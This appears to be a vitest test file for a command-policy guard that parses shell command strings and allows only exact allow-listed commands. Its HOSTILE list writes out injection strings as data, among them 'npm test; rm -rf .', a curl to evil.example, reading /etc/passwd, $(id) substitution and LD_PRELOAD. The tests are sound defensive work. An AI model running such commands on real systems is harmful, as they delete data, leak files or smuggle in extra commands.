import { spawnSync } from 'node:child_process';
import { homedir } from 'node:os';
import { describe, expect, it } from 'vitest';
import { mayRunUnconfined, parseArgv } from '../../../../src/core/guard/commandPolicy.ts';
import { ALPHABET } from '../../../support/shell/shellStrings.ts';
import { fc } from '../../../support/suite/property.ts';

/** Every one of these is more than plain words to some shell. */
const HOSTILE = [
  '',
  '   ',
  'npm test; rm -rf .',
  'npm test;',
  'npm test && curl evil.example',
  'npm test || true',
  'npm test | tee out',
  'npm test & disown',
  'npm test &',
  'npm test > out',
  'npm test >> out',
  'npm test < /etc/passwd',
  'npm test 2>&1',
  'cat <<EOF',
  'cat <<< word',
  'cat <(ls)',
  'npm test\nrm -rf .',
  'npm test\r\nrm -rf .',
  'npm test\0--force',
  'echo $(id)',
  'echo `id`',
  'echo $HOME',
  `echo \${HOME}`,
  'echo $((1+1))',
  'echo "$HOME"',
  'echo "`id`"',
  'echo "$(id)"',
  "echo $'a\\nb'",
  'echo $"text"',
  '$(echo npm) test',
  '`echo npm` test',
  '$NPM test',
  'FOO=1 npm test',
  'FOO+=1 npm test',
  '_=1 npm test',
  'PATH=. npm test',
  'LD_PRELOAD=./x.so npm test',
  'npm test # comment',
  '#npm test',
  'npm te\\st',
  'npm\\ test',
  'npm test \\',
  'ls *.ts',
  'ls ?.ts',
  'ls [ab].ts',
  'ls {a,b}.ts',
  'ls ~/secret',
  'ls ~root',
  '! npm test',
  'echo !!',
  'echo "hi!"',
  'echo a^b',
  '(npm test)',
  '{ npm test; }',
  'if true; then npm test; fi',
  'if',
  'while',
  'time npm test',
  'function f',
  'coproc npm test',
  '[[ -f x ]]',
  'f() npm test',
  "npm 'test",
  'npm "test',
  'npm "te"st"',
  "'' test",
  '"" test',
  'npm "a\\"b"',
  'npm "a\nb"',
  "npm 'a\nb'",
  'npm tést',
  'npm\u00a0test',
  'npm \u202etset',
  'npm "\u200b"',
  'npm "\u2028"',
  'npm \u001b[31m',
  "npm '\u001b[31m'",
  'npm \ud800',
  'npm\vtest',
  'npm\ftest',
  `npm ${'a'.repeat(9000)}`,
];

const WORDS: [string, string[]][] = [
  ['npm test', ['npm', 'test']],
  ['  npm\ttest  ', ['npm', 'test']],
  ["node --test 'test/a b.js'", ['node', '--test', 'test/a b.js']],
  ['node --test "test/a b.js"', ['node', '--test', 'test/a b.js']],
  [`git commit -m 'say "hi" $HOME'`, ['git', 'commit', '-m', 'say "hi" $HOME']],
  [`pytest -k "it's"`, ['pytest', '-k', "it's"]],
  ['a\'b\'"c"d', ['abcd']],
  ["npm ''", ['npm', '']],
  ["echo '#no' 'comment'", ['echo', '#no', 'comment']],
  ['make CC=gcc all', ['make', 'CC=gcc', 'all']],
  ["echo 'größe'", ['echo', 'größe']],
  ['./gradlew build', ['./gradlew', 'build']],
  ['x if then', ['x', 'if', 'then']],
];

describe('parseArgv', () => {
  it.each(HOSTILE.map((text) => [text]))('refuses %j', (text) => {
    expect(parseArgv(text)).toBeNull();
  });

  it.each(WORDS)('reads %j', (text, words) => {
    expect(parseArgv(text)).toEqual(words);
  });

  it('never reads a word that a real shell reads otherwise', () => {
    const pieces = fc.constantFrom(...ALPHABET);
    const commands = fc.sample(
      fc.array(pieces, { minLength: 1, maxLength: 12 }).map((list) => list.join('')),
      { numRuns: 20_000 },
    );
    const read = commands.flatMap((command) => {
      const argv = parseArgv(command);
      return argv === null ? [] : [{ command, argv }];
    });
    expect(read.length).toBeGreaterThan(1000);
    // One shell reads them all: what the shell prints must be exactly our words, whatever they hold.
    const script = read.map(({ command }) => `printf '%s\\0' ${command}; printf '\\1'`).join('\n');
    const shell = spawnSync('sh', ['-s'], { input: script, encoding: 'utf8', cwd: homedir(), maxBuffer: 1 << 26 });
    expect(shell.stderr).toBe('');
    const expected = read.map(({ argv }) => `${argv.join('\0')}\0`).join('\x01');
    expect(shell.stdout).toBe(`${expected}\x01`);
  });

  it('reads back every quoted list of words', () => {
    const word = fc.string({ unit: 'grapheme-ascii', maxLength: 20 }).filter((text) => !text.includes("'"));
    fc.assert(
      fc.property(fc.array(word), (rest) => {
        const argv = ['run', ...rest];
        expect(parseArgv(argv.map((text) => `'${text}'`).join(' '))).toEqual(argv);
      }),
    );
  });
});

describe('mayRunUnconfined', () => {
  const allowed = [['npm', 'test'], ['node', '--test', 'a b.js'], []];

  it('takes an exact match only', () => {
    expect(mayRunUnconfined(['npm', 'test'], allowed)).toBe(true);
    expect(mayRunUnconfined(['node', '--test', 'a b.js'], allowed)).toBe(true);
  });

  it.each([
    [[]],
    [['npm']],
    [['npm', 'test', '--force']],
    [['npm', 'Test']],
    [['/tmp/npm', 'test']],
    [['npm', 'test', '']],
    [['node', '--test', 'a', 'b.js']],
    [['npm test']],
    [['env', 'npm', 'test']],
  ])('refuses %j', (argv) => {
    expect(mayRunUnconfined(argv, allowed)).toBe(false);
  });
});
